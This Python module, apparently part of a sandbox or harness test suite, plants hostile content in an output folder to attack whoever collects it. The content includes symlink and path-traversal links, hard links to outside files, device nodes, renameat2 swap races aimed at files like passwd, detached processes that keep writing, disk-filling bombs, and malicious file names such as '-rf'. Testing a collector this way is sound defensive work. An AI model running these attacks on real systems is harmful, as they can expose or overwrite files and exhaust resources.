"""Attacks by what is left in the output folder, on whoever collects it."""

import ctypes
import os
import socket
import time

import raw

OUT = "/grant/write/output"
RENAME_EXCHANGE, RENAME_WHITEOUT = 2, 4
AT_FDCWD = -100


def _at(name):
    return os.path.join(OUT, name)


def _renameat2(source, target, flags):
    return raw.attempt("renameat2", AT_FDCWD, _at(source).encode(), AT_FDCWD, _at(target).encode(), flags)


def links(targets):
    """Symbolic links to all of them, absolute and up many times, and links to links."""
    for number, target in enumerate(targets):
        os.symlink(target, _at(f"absolute{number}"))
        os.symlink("../" * 12 + target.lstrip("/"), _at(f"up{number}"))
    os.symlink("absolute0", _at("again"))
    os.symlink("loop", _at("loop"))
    os.symlink("/proc/self/fd/3", _at("descriptor"))


def hard_links(targets):
    """What making hard links to files outside came to."""
    return {target: raw.caught(os.link, target, _at(f"link{number}")) for number, target in enumerate(targets)}


def special():
    """A FIFO, a socket, devices: what making each came to. One device there is for everybody: a whiteout."""
    answers = {
        "fifo": raw.attempt("mknodat", AT_FDCWD, _at("fifo").encode(), 0o010666, 0, name="mknodat fifo"),
        "null": raw.attempt("mknodat", AT_FDCWD, _at("null").encode(), 0o020666, 0x103, name="mknodat null"),
        "disk": raw.attempt("mknodat", AT_FDCWD, _at("disk").encode(), 0o060666, 0x800, name="mknodat disk"),
        "device 0": raw.attempt("mknodat", AT_FDCWD, _at("zero").encode(), 0o020666, 0, name="mknodat device 0"),
        "socket": raw.caught(_bind),
    }
    with open(_at("source"), "w") as stream:
        stream.write("x")
    answers["whiteout"] = _renameat2("source", "target", RENAME_WHITEOUT)
    return answers


def _bind():
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(_at("socket"))


def swaps(target, count):
    """A file and a link change places `count` times, and on when this has ended, by a process of its own session."""
    with open(_at("a"), "w") as stream:
        stream.write("own")
    os.symlink(target, _at("b"))
    os.mkdir(_at("d"))
    with open(_at("d/passwd"), "w") as stream:
        stream.write("own")
    os.symlink(os.path.dirname(target), _at("e"))
    libc = ctypes.CDLL(None)
    pairs = [(_at("a").encode(), _at("b").encode()), (_at("d").encode(), _at("e").encode())]

    def swap():
        for one, other in pairs:
            libc.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE)

    if os.fork() == 0:
        os.setsid()
        while True:
            swap()
    for _ in range(count):
        swap()


def write_on(ways):
    """Processes that keep writing when this has ended: by descriptor, by memory, by names that come and go."""
    import mmap

    size = 1 << 20
    with open(_at("mapped"), "wb") as stream:
        stream.write(bytes(size))
    started = os.pipe()
    for way in ways:
        if os.fork():
            continue
        os.setsid()
        number = 0
        memory = open(_at("mapped"), "r+b")  # noqa: SIM115
        mapped = mmap.mmap(memory.fileno(), size)
        appended = os.open(_at("written"), os.O_RDWR | os.O_CREAT)
        os.write(started[1], b"1")
        while True:
            number += 1
            if way == "mapped":
                mapped[:size] = bytes([number % 256]) * size
            elif way == "written":
                os.pwrite(appended, bytes([number % 256]) * 65536, 0)
                os.ftruncate(appended, number % 65536)
            else:
                os.mkdir(_at(f"d{number % 3}"))
                with open(_at(f"d{number % 3}/f"), "w") as stream:
                    stream.write("x")
                os.unlink(_at(f"d{number % 3}/f"))
                os.rmdir(_at(f"d{number % 3}"))
    for _ in ways:
        os.read(started[0], 1)
    time.sleep(0.01)


def bombs(kind):
    """More than anybody wants: holes, files, bytes, depth, names."""
    if kind == "holes":
        for name in ("a", "b"):
            with open(_at(name), "wb") as stream:
                stream.truncate(1 << 24)
    elif kind == "one hole":
        with open(_at("a"), "wb") as stream:
            stream.write(b"x")
            stream.seek(1 << 20)
            stream.write(b"x")
    elif kind == "files":
        return _until_full(lambda number: open(_at(f"{number:05}"), "w").close())  # noqa: SIM115
    elif kind == "names of one file":
        open(_at("first"), "w").close()  # noqa: SIM115
        return _until_full(lambda number: os.link(_at("first"), _at(f"{number:05}")))
    elif kind == "depth":
        os.chdir(OUT)

        def deeper(_number):
            os.mkdir("d")
            os.chdir("d")

        return _until_full(deeper)
    elif kind == "bytes":
        with open(_at("a"), "wb", buffering=0) as stream:
            return _until_full(lambda _: stream.write(bytes(1 << 16)))
    elif kind == "long names":
        name = os.fsencode(OUT) + b"/" + b"\xff" * 250
        return _until_full(lambda number: os.close(os.open(name + b"%05d" % number, os.O_CREAT | os.O_WRONLY)))
    return None


def _until_full(act):
    number = 0
    try:
        while True:
            act(number)
            number += 1
    except OSError as error:
        return [number, os.strerror(error.errno)]


NAMES = (
    "..", "../x", "a/../../x", "..\\..\\x", "..x", "...", "C:\\x", "\n..", "\u2024\u2024\u2215x", "~", "-rf", ".plugind-x",
)  # fmt: skip


def names():
    """Names that lead elsewhere, or look as if they did: what making each came to."""
    os.mkdir(_at("a"))
    return {name: raw.caught(_make, _at(name)) for name in NAMES}


def _make(path):
    os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY))


def fill(mib):
    """Memory by files of the output folder, and then of /tmp: how much it was."""
    made = 0
    for place in (OUT, "/tmp"):
        with open(f"{place}/fill", "wb", buffering=0) as stream:
            try:
                while made < mib:
                    stream.write(bytes(1 << 20))
                    made += 1
            except OSError:
                pass
    return made
